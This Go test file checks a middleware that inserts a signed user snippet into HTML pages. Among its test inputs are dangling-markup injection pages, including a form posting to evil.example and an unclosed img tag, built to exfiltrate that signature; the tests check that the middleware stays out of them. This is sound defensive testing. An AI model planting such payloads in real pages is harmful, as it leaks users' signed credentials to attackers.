package prefinery

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const page = "<!doctype html><html><head><title>t</title></head><body><p>hi</p></body></html>"

// serveAuto runs handler behind kit.Middleware with AutoInsert for a signed-in
// user (or "" for anonymous) and returns the recorded response.
func serveAuto(t *testing.T, kit *Kit, method, identifier string, handler http.HandlerFunc) *http.Response {
	t.Helper()
	req := httptest.NewRequest(method, "/page", nil)
	if identifier != "" {
		req = req.WithContext(contextWithUser(req, identifier))
	}
	rec := httptest.NewRecorder()
	kit.Middleware(kit.insertSnippet(handler)).ServeHTTP(rec, req)
	return rec.Result()
}

func body(t *testing.T, res *http.Response) string {
	t.Helper()
	b, err := io.ReadAll(res.Body)
	require.NoError(t, err)
	return string(b)
}

func htmlHandler(status int, content string, headers ...string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		for i := 0; i+1 < len(headers); i += 2 {
			w.Header().Set(headers[i], headers[i+1])
		}
		w.WriteHeader(status)
		_, _ = io.WriteString(w, content)
	}
}

func TestAutoInsert(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{})
	signedIn := renderFor(t, kit, "amy@example.com", embedOf(kit))
	anonymous := renderFor(t, kit, "", embedOf(kit))
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	_, _ = io.WriteString(zw, page)
	require.NoError(t, zw.Close())
	big := "<html><body>" + strings.Repeat("x", autoInsertLimit) + "</body></html>"

	tests := []struct {
		name       string
		method     string
		identifier string
		handler    http.HandlerFunc
		want       string // expected body; "" means unchanged
	}{
		{"signed in", "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html; charset=utf-8"),
			strings.Replace(page, "</body>", signedIn+"</body>", 1)},
		{"anonymous gets stub and loader", "GET", "", htmlHandler(200, page, "Content-Type", "text/html"),
			strings.Replace(page, "</body>", anonymous+"</body>", 1)},
		{"sniffed html", "GET", "amy@example.com", func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, page) },
			strings.Replace(page, "</body>", signedIn+"</body>", 1)},
		{"last of two </body>", "GET", "amy@example.com", htmlHandler(200, "<body>a</body><p></body></BODY >", "Content-Type", "text/html"),
			"<body>a</body><p></body>" + signedIn + "</BODY >"},
		{"not in a trailing comment", "GET", "amy@example.com", htmlHandler(200, "<body>a</body><!-- </BODY > -->", "Content-Type", "text/html"),
			"<body>a" + signedIn + "</body><!-- </BODY > -->"},
		{"not in a trailing script string", "GET", "amy@example.com", htmlHandler(200, `<body>a</body><script>var s = "</body>";</script>`, "Content-Type", "text/html"),
			"<body>a" + signedIn + `</body><script>var s = "</body>";</script>`},
		{"not in a textarea", "GET", "amy@example.com", htmlHandler(200, "<body><textarea></body></textarea></body>", "Content-Type", "text/html"),
			"<body><textarea></body></textarea>" + signedIn + "</body>"},
		{"not in a style", "GET", "amy@example.com", htmlHandler(200, "<body><style>/*</body>*/</style></body>", "Content-Type", "text/html"),
			"<body><style>/*</body>*/</style>" + signedIn + "</body>"},
		{"not in an attribute", "GET", "amy@example.com", htmlHandler(200, `<body><a title="</body>" x='</body>'>x</a></body>`, "Content-Type", "text/html"),
			`<body><a title="</body>" x='</body>'>x</a>` + signedIn + "</body>"},
		{"not in cdata", "GET", "amy@example.com", htmlHandler(200, "<body><svg><![CDATA[</body>]]></svg></body>", "Content-Type", "text/html"),
			"<body><svg><![CDATA[</body>]]></svg>" + signedIn + "</body>"},
		{"only inside a script", "GET", "amy@example.com", htmlHandler(200, "<body><script>document.write('</body>')</script>", "Content-Type", "text/html"), ""},
		{"only inside a comment", "GET", "amy@example.com", htmlHandler(200, "<body><!-- </body> -->", "Content-Type", "text/html"), ""},
		{"unsure: script with a comment opener", "GET", "amy@example.com", htmlHandler(200, "<body><script><!--<script></script></body>", "Content-Type", "text/html"), ""},
		{"upload served as an attachment", "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html", "Content-Disposition", `attachment; filename="x.html"`), ""},
		{"upload served inline with a filename", "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html", "Content-Disposition", `inline; filename="x.html"`), ""},
		{"csp sandbox", "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html", "Content-Security-Policy", "default-src 'none'; sandbox allow-scripts"), ""},
		{"csp sandbox, second policy", "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html", "Content-Security-Policy", "default-src 'self', SANDBOX"), ""},
		{"partial content", "GET", "amy@example.com", htmlHandler(206, page[40:], "Content-Type", "text/html", "Content-Range", "bytes 40-79/80"), ""},
		{"created", "POST", "amy@example.com", htmlHandler(201, page, "Content-Type", "text/html"), ""},
		{"json", "GET", "amy@example.com", htmlHandler(200, `{"a":"</body>"}`, "Content-Type", "application/json"), ""},
		{"not found", "GET", "amy@example.com", htmlHandler(404, page, "Content-Type", "text/html"), ""},
		{"redirect", "GET", "amy@example.com", htmlHandler(302, page, "Content-Type", "text/html", "Location", "/x"), ""},
		{"head", "HEAD", "amy@example.com", htmlHandler(200, "", "Content-Type", "text/html"), ""},
		{"gzip", "GET", "amy@example.com", htmlHandler(200, gz.String(), "Content-Type", "text/html", "Content-Encoding", "gzip"), ""},
		{"no body tag", "GET", "amy@example.com", htmlHandler(200, "<p>fragment</p>", "Content-Type", "text/html"), ""},
		{"too big", "GET", "amy@example.com", htmlHandler(200, big, "Content-Type", "text/html"), ""},
		{"declared too big", "GET", "amy@example.com", htmlHandler(200, big, "Content-Type", "text/html", "Content-Length", strconv.Itoa(len(big))), ""},
		{"already rendered", "GET", "amy@example.com", func(w http.ResponseWriter, r *http.Request) {
			snippet, err := kit.embed(r)
			require.NoError(t, err)
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, "<html><head>"+string(snippet)+"</head><body></body></html>")
		}, ""},
		{"stub pasted by hand", "GET", "amy@example.com", htmlHandler(200, "<script>"+stubJS+"</script><body></body>", "Content-Type", "text/html"), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			// Record what the handler alone produces, for "unchanged".
			plain := httptest.NewRecorder()
			tt.handler(plain, httptest.NewRequest(tt.method, "/page", nil))
			res := serveAuto(t, kit, tt.method, tt.identifier, tt.handler)
			got := body(t, res)
			want := tt.want
			if want == "" {
				want = plain.Body.String()
				assert.Equal(t, plain.Header().Get("ETag"), res.Header.Get("ETag"), "validators kept when nothing changes")
				if tt.name == "already rendered" {
					assert.Equal(t, 1, strings.Count(got, stubJS), "the snippet is not inserted twice")
					return
				}
			}
			assert.Equal(t, want, got)
			if cl := res.Header.Get("Content-Length"); cl != "" {
				assert.Equal(t, strconv.Itoa(len(got)), cl, "Content-Length matches the body")
			}
		})
	}
}

func TestAutoInsertSkip(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{AutoInsert: true}, func(c *Config) {
		c.SkipAutoInsert = func(r *http.Request) bool { return strings.HasPrefix(r.URL.Path, "/pa") }
	})
	res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html"))
	assert.Equal(t, page, body(t, res))
}

func TestAutoInsertFixesContentLength(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{})
	res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html", "Content-Length", strconv.Itoa(len(page))))
	got := body(t, res)
	assert.Greater(t, len(got), len(page))
	assert.Equal(t, strconv.Itoa(len(got)), res.Header.Get("Content-Length"))
}

// TestAutoInsertStreams serves a page that flushes its head and waits for the
// client to read it before finishing: the head must arrive early, and the
// snippet still lands before </body>.
func TestAutoInsertStreams(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{AutoInsert: true})
	clientSawHead := make(chan struct{})
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<html><head><title>stream</title></head>\n")
		require.NoError(t, http.NewResponseController(w).Flush())
		select {
		case <-clientSawHead:
		case <-time.After(5 * time.Second):
			t.Error("the flushed head never reached the client")
		}
		_, _ = io.WriteString(w, "<body>late</body></html>")
	})
	srv := httptest.NewServer(kit.Middleware(handler))
	defer srv.Close()
	req, err := http.NewRequest(http.MethodGet, srv.URL, nil)
	require.NoError(t, err)
	res, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer res.Body.Close()
	br := bufio.NewReader(res.Body)
	head, err := br.ReadString('\n')
	require.NoError(t, err)
	assert.Equal(t, "<html><head><title>stream</title></head>\n", head)
	close(clientSawHead)
	rest, err := io.ReadAll(br)
	require.NoError(t, err)
	assert.Equal(t, "<body>late"+renderFor(t, kit, "", embedOf(kit))+"</body></html>", string(rest))
}

// TestAutoInsertResponseController: deadlines and flushing reach the real
// connection through Unwrap.
func TestAutoInsertResponseController(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{AutoInsert: true})
	srv := httptest.NewServer(kit.Middleware(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rc := http.NewResponseController(w)
		assert.NoError(t, rc.SetWriteDeadline(time.Now().Add(5*time.Second)))
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, page)
		assert.NoError(t, rc.Flush())
	})))
	defer srv.Close()
	res, err := http.Get(srv.URL)
	require.NoError(t, err)
	defer res.Body.Close()
	assert.Contains(t, body(t, res), stubJS)
}

// TestAutoInsertDropsValidators: a changed body never keeps the handler's
// ETag or Last-Modified.
func TestAutoInsertDropsValidators(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{})
	res := serveAuto(t, kit, "GET", "", htmlHandler(200, page, "Content-Type", "text/html", "ETag", `"v1"`, "Last-Modified", "Mon, 02 Jan 2006 15:04:05 GMT"))
	got := body(t, res)
	require.Contains(t, got, stubJS)
	assert.Empty(t, res.Header.Get("ETag"))
	assert.Empty(t, res.Header.Get("Last-Modified"))
	assert.Equal(t, strconv.Itoa(len(got)), res.Header.Get("Content-Length"))
}

// manyFlushes writes an early </body>, then 16,000 flushed chunks of 100
// bytes: 1.6 MB that the old AutoInsert rescanned on every flush (3.3 s).
func manyFlushes(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/html")
	_, _ = io.WriteString(w, "<html><body>hi</body>")
	f := w.(http.Flusher)
	chunk := strings.Repeat("y", 100)
	for range 16000 {
		_, _ = io.WriteString(w, chunk)
		f.Flush()
	}
}

// TestAutoInsertManyFlushes: the snippet still goes before the early
// </body>, and every byte arrives. BenchmarkAutoInsertManyFlushes times it.
func TestAutoInsertManyFlushes(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{})
	got := body(t, serveAuto(t, kit, "GET", "amy@example.com", manyFlushes))
	assert.True(t, strings.HasPrefix(got, "<html><body>hi<script"), "inserted before the early </body>")
	assert.Equal(t, 21+16000*100+len(renderFor(t, kit, "amy@example.com", embedOf(kit))), len(got))
}

func BenchmarkAutoInsertManyFlushes(b *testing.B) {
	kit := newKit(b, Config{})
	h := kit.Middleware(kit.insertSnippet(http.HandlerFunc(manyFlushes)))
	b.ReportAllocs()
	for b.Loop() {
		req := httptest.NewRequest(http.MethodGet, "/", nil)
		h.ServeHTTP(httptest.NewRecorder(), req.WithContext(contextWithUser(req, "amy@example.com")))
	}
}

// TestAutoInsertKeepsHijacker: a handler behind AutoInsert can still take
// over the connection (websocket upgrades).
func TestAutoInsertKeepsHijacker(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{})
	srv := httptest.NewServer(kit.Middleware(kit.insertSnippet(hijacker(t))))
	defer srv.Close()
	res, err := http.Get(srv.URL)
	require.NoError(t, err)
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	assert.Equal(t, "hijacked", string(b))
}

// TestAutoInsertStaysOutOfSandboxes: a sandbox directive separated from its
// flags by any ASCII whitespace (Chromium sandboxes "sandbox<TAB>allow-scripts")
// keeps the signature out of the page.
func TestAutoInsertStaysOutOfSandboxes(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{}) // serveAuto adds AutoInsert
	page := "<html><body><p>upload</p></body></html>"
	for _, policy := range []string{"sandbox\tallow-scripts", "sandbox\nallow-scripts allow-same-origin", "default-src 'self';SANDBOX", "sandbox"} {
		res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html", "Content-Security-Policy", policy))
		assert.Equal(t, page, body(t, res), "%q", policy)
	}
	res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html", "Content-Security-Policy-Report-Only", "sandbox"))
	assert.Contains(t, body(t, res), "authenticateUser", "a report-only sandbox sandboxes nothing")
}

// TestAutoInsertFollowsTheTreeBuilder: pages where a script before the last
// </body> would not be a running HTML script, or would become an attacker's
// form field or comment: AutoInsert stays out (htmlscan's corpus test proves
// the rule on html5lib-tests against x/net/html's tree builder).
func TestAutoInsertFollowsTheTreeBuilder(t *testing.T) {
	t.Parallel()
	kit := newKit(t, Config{})
	for _, page := range []string{
		"<html><body><svg><title><textarea name=comment></body></html>", // the signature would be the field's text
		"<html><body><![CDATA[><textarea name=comment>]]></body></html>",
		"<html><body><svg><style><!--</style></body></html>", // in a comment
		"<html><body><svg><circle r=1></body></html>",        // an svg script: the loader's src is ignored
		"<html><body><math><mi>x</body></html>",              // text in the DOM
		"<html><body><template><p>draft</body></html>",       // inert
		"<html><frameset><frame src=a></frameset></body></html>",
	} {
		res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html"))
		assert.Equal(t, page, body(t, res), "%q", page)
	}
	res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, "<html><body><svg><title>t</title></svg></body></html>", "Content-Type", "text/html"))
	assert.Contains(t, body(t, res), "authenticateUser", "a closed svg is fine")
}

// TestAutoInsertNoscriptScriptingOff (#31 §2.2): a same-origin iframe sandboxed
// without allow-scripts reads <noscript> as markup, where an injected form and
// textarea would take the snippet as the field's text (one click sends the
// signature). AutoInsert stays out of such a page; a benign <noscript> (a
// notice, a tag manager's iframe) still gets the snippet.
func TestAutoInsertNoscriptScriptingOff(t *testing.T) {
	kit := newKit(t, Config{})
	for _, page := range []string{
		`<html><body><p>comment: <noscript><form action="https://evil.example/"><button>Continue</button><textarea name=t></noscript></p></body></html>`,
		`<html><body><noscript><img src='https://evil.example/?</noscript></body></html>`,
		`<html><head><noscript><!--</noscript>--></head><body></body></html>`,
	} {
		res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html"))
		assert.Equal(t, page, body(t, res), "%q", page)
	}
	signedIn := renderFor(t, kit, "amy@example.com", embedOf(kit))
	for _, page := range []string{
		`<html><body><noscript><p>This page needs JavaScript.</p></noscript><p>hi</p></body></html>`,
		`<html><body><noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" height="0" width="0" style="display:none"></iframe></noscript></body></html>`,
		`<html><head><noscript><link rel=stylesheet href=/nojs.css></noscript></head><body></body></html>`,
	} {
		res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html"))
		assert.Equal(t, strings.Replace(page, "</body>", signedIn+"</body>", 1), body(t, res), "%q", page)
	}
}

// TestAutoInsertFacts: the stub counts only where it runs (a script's text),
// and a <meta> CSP is logged only where a browser reads one: text that merely
// mentions them changes nothing.
func TestAutoInsertFacts(t *testing.T) {
	logger, logs := testLogger()
	kit := newKit(t, Config{Logger: logger})
	for _, page := range []string{
		"<html><body><!-- " + stubJS + " --><p title='" + stubJS + "'>" + stubJS + "</p></body></html>",
		`<html><body><textarea><meta http-equiv="Content-Security-Policy" content="x"></textarea><!-- <meta http-equiv=content-security-policy> --></body></html>`,
		`<html><head><meta http-equiv="refresh" content="5" data-x="http-equiv=content-security-policy"></head><body></body></html>`,
	} {
		res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html"))
		assert.Contains(t, body(t, res), "authenticateUser", "%q", page)
	}
	assert.NotContains(t, logs.String(), "<meta http-equiv", "no <meta> CSP on these pages")

	split := func(page string) http.HandlerFunc { // the stub split across writes
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			for i := range len(page) {
				_, _ = io.WriteString(w, page[i:i+1])
			}
		}
	}
	page := "<html><head><script>" + stubJS + "</script></head><body></body></html>"
	assert.Equal(t, page, body(t, serveAuto(t, kit, "GET", "amy@example.com", split(page))), "a stub pasted by hand: nothing inserted")
	page = `<html><head><meta http-equiv=content&#45;security&#45;policy content="script-src 'self'"></head><body></body></html>`
	serveAuto(t, kit, "GET", "amy@example.com", split(page))
	assert.Contains(t, logs.String(), "<meta http-equiv", "a <meta> CSP, however written, is logged")
}

// TestStubIsTheTemplates: stubJS is what snippet.tmpl renders, and its hash,
// which apps copy into their policies, has not moved.
func TestStubIsTheTemplates(t *testing.T) {
	kit := newKit(t, Config{})
	assert.Contains(t, renderFor(t, kit, "", embedOf(kit)), "<script>"+stubJS+"</script>")
	assert.Equal(t, "'sha256-hpWTnmvbG9F+G7Bn2hxNZquXDTMhv4QDRmnrbwBD+wY='", StubCSPSource())
}

// TestAutoInsertSaysWhenAPageCameCompressed: a compressing middleware inside
// the kit hands AutoInsert gzip, where it inserts nothing; that is logged
// once at WARN with the fix (the order of the two middlewares). Controls: a
// plain page, compressed JSON and a compressed 404 log nothing.
func TestAutoInsertSaysWhenAPageCameCompressed(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		handler http.HandlerFunc
		warns   bool
	}{
		{"gzip page", htmlHandler(200, "\x1f\x8b", "Content-Type", "text/html; charset=utf-8", "Content-Encoding", "gzip"), true},
		{"plain page", htmlHandler(200, page, "Content-Type", "text/html"), false},
		{"gzip JSON", htmlHandler(200, "\x1f\x8b", "Content-Type", "application/json", "Content-Encoding", "gzip"), false},
		{"gzip 404", htmlHandler(404, "\x1f\x8b", "Content-Type", "text/html", "Content-Encoding", "gzip"), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			logger, logs := testLogger()
			kit := newKit(t, Config{Logger: logger})
			for range 3 {
				serveAuto(t, kit, "GET", "amy@example.com", tt.handler)
			}
			if !tt.warns {
				assert.NotContains(t, logs.String(), "compressed")
				return
			}
			assert.Equal(t, 1, strings.Count(logs.String(), `"level":"WARN","msg":"prefinery: AutoInsert met an HTML page that was already compressed`), "logged once: %s", logs)
			assert.Contains(t, logs.String(), "put the compressing middleware outside the kit")
		})
	}
}
